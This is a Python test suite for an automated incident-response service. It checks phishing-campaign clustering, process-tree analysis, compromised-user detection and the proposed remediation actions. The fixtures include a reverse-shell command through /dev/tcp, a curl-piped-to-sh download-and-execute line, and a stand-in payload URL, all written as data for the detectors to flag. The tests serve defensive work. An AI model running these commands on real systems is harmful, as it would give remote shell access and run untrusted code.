"""Investigations expanded on stored telemetry: messages, clusters, clicks, devices, users."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from autoir.bootstrap import Container
from tests.conftest import ApiClient
from tests.support import alerts as A
from tests.support import telemetry as T

REPORTED = "Email reported by user as malware or phish"
PHISH_IP = "203.0.113.7"
PAYLOAD_URL = "https://files.evil.example/d/payload"
SHA = "ab" * 32


def _post(api: ApiClient, kind: str, records: list[dict[str, Any]]) -> None:
    response = api.post(f"/api/v1/telemetry/{kind}", json={"value": records})
    assert response.status_code == 201, response.text


def _ingest_alert(api: ApiClient, body: dict[str, Any]) -> str:
    response = api.post("/api/v1/alerts", json={"value": [body]})
    assert response.status_code == 201, response.text
    alert_id: str = response.json()["ids"][0]
    return alert_id


def _investigate(api: ApiClient, container: Container) -> dict[str, Any]:
    (investigation_id,) = container.automation.investigations.sweep()
    assert container.automation.runner.advance(investigation_id, "worker-1") is not None
    body: dict[str, Any] = api.get(f"/api/v1/investigations/{investigation_id}").json()
    steps = [row for row in body["log"] if row["type"] == "step"]
    assert steps
    assert all(row["status"] == "completed" for row in steps), steps
    return body


def _campaign() -> list[dict[str, Any]]:
    phish = [
        T.message(
            networkMessageId=f"phish-{i}",
            internetMessageId=f"<c{i}@evil.example>",
            receivedDateTime=T.at(hours=-i),
            subject=f"Invoice {1000 + i} overdue",
            senderFromAddress="billing@evil.example",
            senderMailFromAddress="bounce@evil.example",
            senderIPv4=PHISH_IP,
            recipientEmailAddress=f"user{i}@fabrikam.example",
            bodyFingerprint="body1",
            deliveryLocation="quarantine" if i < 2 else "inbox",
            deliveryAction="blocked" if i < 2 else "delivered",
            urls=[{"url": PAYLOAD_URL}],
        )
        for i in range(6)
    ]
    bystanders = [
        T.message(
            networkMessageId=f"other-{i}",
            receivedDateTime=T.at(hours=-i),
            subject=f"Lunch {i}",
            senderFromAddress="ceo@fabrikam.example",
            senderIPv4="198.51.100.1",
            recipientEmailAddress="user1@fabrikam.example",
            bodyFingerprint=f"body-{i}",
        )
        for i in range(4)
    ]
    return phish + bystanders


def test_reported_phish_finds_its_copy_by_internet_message_id_and_every_similar_message(
    api: ApiClient, container: Container
) -> None:
    _post(api, "messages", _campaign())
    _post(api, "urlClicks", [T.click(userId="user3@fabrikam.example", url=PAYLOAD_URL)])
    reported = {
        "@odata.type": A.ODATA + "analyzedMessageEvidence",
        "networkMessageId": "copy-in-reporting-mailbox",
        "internetMessageId": "<c3@evil.example>",
        "subject": "Invoice 1003 overdue",
    }
    url = {"@odata.type": A.ODATA + "urlEvidence", "url": PAYLOAD_URL, "verdict": "malicious"}
    _ingest_alert(
        api,
        A.alert(
            title=REPORTED,
            serviceSource="microsoftDefenderForOffice365",
            detectionSource="microsoftDefenderForOffice365",
            category="InitialAccess",
            evidence=[reported, url],
        ),
    )
    body = _investigate(api, container)
    evidence = {item["key"]: item for item in body["evidence"]}

    located = evidence["analyzedMessage:phish-3"]
    assert located["properties"]["senderIp"] == PHISH_IP
    assert located["properties"]["deliveryLocation"] == "inbox"
    assert located["verdict"] == "malicious"
    assert any(r["code"] == "cluster.copied_to_original" for r in located["reasons"])

    clusters = {
        item["properties"]["clusterBy"]: item
        for item in body["evidence"]
        if item["kind"] == "mailCluster"
    }
    by_url = clusters["url"]
    assert by_url["properties"]["clusterType"] == "entity"
    assert by_url["properties"]["emailCount"] == 6
    assert by_url["properties"]["countByDeliveryLocation"] == {"inbox": 4, "quarantine": 2}
    assert sorted(by_url["properties"]["networkMessageIds"]) == [f"phish-{i}" for i in range(6)]
    assert by_url["verdict"] == "malicious"
    campaign = clusters["bodyFingerprint/senderIp"]
    assert campaign["properties"]["emailCount"] == 6
    assert campaign["verdict"] == "malicious"
    assert campaign["reasons"][0]["code"] == "cluster.same_campaign"
    assert clusters["senderIp"]["properties"]["emailCount"] == 6
    assert "subjectFingerprint" in clusters  # "Invoice N overdue" shares one fingerprint
    assert "senderDomain" in clusters

    mailboxes = {item["name"] for item in body["evidence"] if item["kind"] == "mailbox"}
    assert {f"user{i}@fabrikam.example" for i in range(6)} <= mailboxes
    clicked = evidence["url:" + PAYLOAD_URL]
    assert clicked["properties"]["clickCount"] == 1
    assert clicked["properties"]["clickedThrough"] == ["user3@fabrikam.example"]
    assert "user:user3@fabrikam.example" in evidence

    edges = {(e["source"], e["target"]) for e in body["graph"]["edges"]}
    assert ("analyzedMessage:copy-in-reporting-mailbox", located["key"]) in edges
    assert (located["key"], clicked["key"]) in edges
    assert (located["key"], "mailbox:user3@fabrikam.example") in edges
    assert (located["key"], campaign["key"]) in edges
    assert (clicked["key"], "user:user3@fabrikam.example") in edges
    actions = {(a["actionType"], a["targetKey"]) for a in body["actions"]}
    assert ("softDeleteEmail", by_url["key"]) in actions
    assert ("blockUrl", clicked["key"]) in actions
    assert all(a["status"] == "pending" for a in body["actions"])
    assert body["status"] == "pendingAction"
    runs = [row for row in body["log"] if row["type"] == "analyzer"]
    assert any(row["name"] == "cluster.members" for row in runs)


def test_a_cluster_above_the_size_limit_is_flagged(api: ApiClient, container: Container) -> None:
    _post(api, "messages", _campaign())
    spec = container.automation.runner._deps.playbooks["playbook.user_reported_phish"]
    limited = replace(spec, limits=replace(spec.limits, max_cluster_size=3))
    container.automation.runner._deps.playbooks["playbook.user_reported_phish"] = limited  # type: ignore[index]
    url = {"@odata.type": A.ODATA + "urlEvidence", "url": PAYLOAD_URL, "verdict": "malicious"}
    message = {
        "@odata.type": A.ODATA + "analyzedMessageEvidence",
        "networkMessageId": "phish-2",
    }
    _ingest_alert(
        api,
        A.alert(
            title=REPORTED,
            serviceSource="microsoftDefenderForOffice365",
            category="InitialAccess",
            evidence=[message, url],
        ),
    )
    body = _investigate(api, container)
    cluster = next(i for i in body["evidence"] if i["properties"].get("clusterBy") == "url")
    assert cluster["properties"]["emailCount"] == 6
    assert cluster["properties"]["aboveSizeLimit"] is True
    assert len(cluster["properties"]["networkMessageIds"]) == 3


def test_device_alert_rebuilds_the_process_tree_and_finds_other_devices(
    api: ApiClient, container: Container
) -> None:
    command = "curl -fsSL http://198.51.100.7/x.sh | sh"
    _post(
        api,
        "endpointEvents",
        [
            T.endpoint_process(
                "dev-1", 10, 1, "sshd", when=T.at(minutes=-20), commandLine="sshd: root"
            ),
            T.endpoint_process(
                "dev-1", 20, 10, "bash", when=T.at(minutes=-19), commandLine="-bash"
            ),
            T.endpoint_process(
                "dev-1", 30, 20, "sh", when=T.at(minutes=-18), commandLine=command, sha256=SHA
            ),
            T.endpoint_process(
                "dev-1",
                31,
                30,
                "curl",
                when=T.at(minutes=-18),
                commandLine="curl -fsSL http://198.51.100.7/x.sh",
            ),
            T.endpoint_process(
                "dev-2", 50, 1, "sh", when=T.at(minutes=-5), commandLine="sh", sha256=SHA
            ),
        ],
    )
    process = {
        "@odata.type": A.ODATA + "processEvidence",
        "mdeDeviceId": "dev-1",
        "processId": 30,
        "processCommandLine": command,
        "imageFile": {"fileName": "sh", "sha256": SHA},
        "processCreationDateTime": T.at(minutes=-18),
    }
    _ingest_alert(
        api,
        A.alert(
            title="Suspicious download and execution",
            evidence=[A.device("dev-1", "dev-1.fabrikam.example"), process],
        ),
    )
    body = _investigate(api, container)
    evidence = {item["key"]: item for item in body["evidence"]}
    judged = next(i for i in body["evidence"] if i["properties"].get("processId") == 30)
    assert judged["properties"]["treeFound"] is True
    assert judged["properties"]["ancestors"] == ["sshd"]
    assert judged["verdict"] == "malicious"
    assert "process.download_pipe_shell" in {r["code"] for r in judged["reasons"]}
    names = {i["name"] for i in body["evidence"] if i["kind"] == "process"}
    assert {"-bash", "curl -fsSL http://198.51.100.7/x.sh"} <= names
    assert evidence["file:" + SHA]["properties"]["prevalence"] == {
        "devices": 2,
        "fleetDevices": 2,
        "common": False,
    }
    assert "device:dev-2" in evidence
    edges = {(e["source"], e["target"]) for e in body["graph"]["edges"]}
    assert ("file:" + SHA, "device:dev-2") in edges
    parent = next(i for i in body["evidence"] if i["name"] == "-bash")
    assert (parent["key"], judged["key"]) in edges
    assert "file:" + SHA in evidence["file:" + SHA]["key"]
    assert ("stopAndQuarantineFile", judged["key"]) in {
        (a["actionType"], a["targetKey"]) for a in body["actions"]
    }


def test_manual_device_investigation_scans_recent_processes(
    api: ApiClient, container: Container
) -> None:
    _post(
        api,
        "endpointEvents",
        [
            T.endpoint_process("dev-9", 5, 1, "cron", commandLine="/usr/sbin/cron -f"),
            T.endpoint_process(
                "dev-9", 6, 5, "bash", commandLine="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
            ),
        ],
    )
    response = api.post("/api/v1/investigations", json={"entityType": "device", "value": "dev-9"})
    assert response.status_code == 201, response.text
    assert container.automation.runner.advance(response.json()["id"], "w") is not None
    body = api.get(f"/api/v1/investigations/{response.json()['id']}").json()
    threats = [i for i in body["evidence"] if i["kind"] == "process"]
    assert [i["verdict"] for i in threats] == ["malicious"]
    assert threats[0]["properties"]["parentProcessImageFile"] == {"fileName": "cron"}
    # Default device group: full automation — the malicious process is stopped automatically.
    (stop,) = [a for a in body["actions"] if a["actionType"] == "liveResponseStopProcess"]
    assert (stop["status"], stop["decidedBy"], stop["targetKey"]) == (
        "approved",
        "Automation",
        threats[0]["key"],
    )
    assert body["status"] == "running"


def test_user_compromise_reads_sign_ins_and_sent_mail(api: ApiClient, container: Container) -> None:
    paris = {"countryOrRegion": "FR", "geoCoordinates": {"latitude": 48.85, "longitude": 2.35}}
    sydney = {"countryOrRegion": "AU", "geoCoordinates": {"latitude": -33.87, "longitude": 151.2}}
    history = [T.sign_in(createdDateTime=T.at(days=-d), location=paris) for d in range(3, 10)]
    burst = [
        T.sign_in(
            createdDateTime=T.at(hours=-3, minutes=i),
            ipAddress="203.0.113.66",
            status={"errorCode": 50126, "failureReason": "Invalid password"},
            location=sydney,
        )
        for i in range(12)
    ]
    success = T.sign_in(createdDateTime=T.at(hours=-2), ipAddress="203.0.113.66", location=sydney)
    _post(api, "signIns", [*history, *burst, success])
    sent = [
        T.message(
            senderFromAddress="alice@fabrikam.example",
            senderIPv4="192.0.2.10",
            recipientEmailAddress=f"partner{i}@contoso.example",
        )
        for i in range(3)
    ]
    _post(api, "messages", sent)
    _ingest_alert(
        api,
        A.alert(
            title="Impossible travel activity",
            serviceSource="microsoftDefenderForCloudApps",
            detectionSource="cloudAppSecurity",
            category="InitialAccess",
            evidence=[A.user("alice@fabrikam.example")],
        ),
    )
    body = _investigate(api, container)
    assert body["investigationType"] == "userCompromised"
    evidence = {item["key"]: item for item in body["evidence"]}
    alice = evidence["user:alice@fabrikam.example"]
    assert alice["properties"]["signInSummary"]["count"] == 20
    assert alice["properties"]["signInSummary"]["failures"] == 12
    assert alice["verdict"] == "malicious"
    codes = {r["code"] for r in alice["reasons"]}
    assert {"user.success_after_failure_burst", "user.new_country"} <= codes
    assert "ip:203.0.113.66" in evidence
    sent_cluster = next(i for i in body["evidence"] if i["kind"] == "mailCluster")
    assert sent_cluster["properties"]["clusterType"] == "sentMail"
    assert sent_cluster["properties"]["emailCount"] == 3
    actions = {a["actionType"] for a in body["actions"]}
    assert {"resetPassword", "confirmUserCompromised"} <= actions


def test_a_file_common_across_the_fleet_is_not_a_lead_to_other_devices(
    api: ApiClient, container: Container
) -> None:
    common = "cd" * 32
    _post(
        api,
        "endpointEvents",
        [T.endpoint_process(f"dev-{i}", 40, 1, "bash", sha256=common) for i in range(25)],
    )
    _ingest_alert(
        api,
        A.alert(
            title="Suspicious shell",
            evidence=[A.device("dev-0", "dev-0.fabrikam.example"), A.file(common, "bash")],
        ),
    )
    body = _investigate(api, container)
    evidence = {item["key"]: item for item in body["evidence"]}
    assert evidence["file:" + common]["properties"]["prevalence"] == {
        "devices": 25,
        "fleetDevices": 25,
        "common": True,
    }
    assert [i["key"] for i in body["evidence"] if i["kind"] == "device"] == ["device:dev-0"]


def test_a_campaign_cluster_is_malicious_when_any_of_its_messages_in_the_investigation_is(
    api: ApiClient, container: Container
) -> None:
    _post(api, "messages", _campaign())
    clean = {"@odata.type": A.ODATA + "analyzedMessageEvidence", "networkMessageId": "phish-4"}
    bad = {
        "@odata.type": A.ODATA + "analyzedMessageEvidence",
        "networkMessageId": "phish-5",
        "verdict": "malicious",
    }
    _ingest_alert(
        api,
        A.alert(
            title=REPORTED,
            serviceSource="microsoftDefenderForOffice365",
            category="InitialAccess",
            evidence=[clean, bad],
        ),
    )
    body = _investigate(api, container)
    evidence = {item["key"]: item for item in body["evidence"]}
    campaign = next(
        i
        for i in body["evidence"]
        if i["properties"].get("clusterBy") == "bodyFingerprint/senderIp"
    )
    assert campaign["verdict"] == "malicious"
    assert set(campaign["related"]) >= {"analyzedMessage:phish-4", "analyzedMessage:phish-5"}
    assert evidence["analyzedMessage:phish-4"]["verdict"] == "malicious"
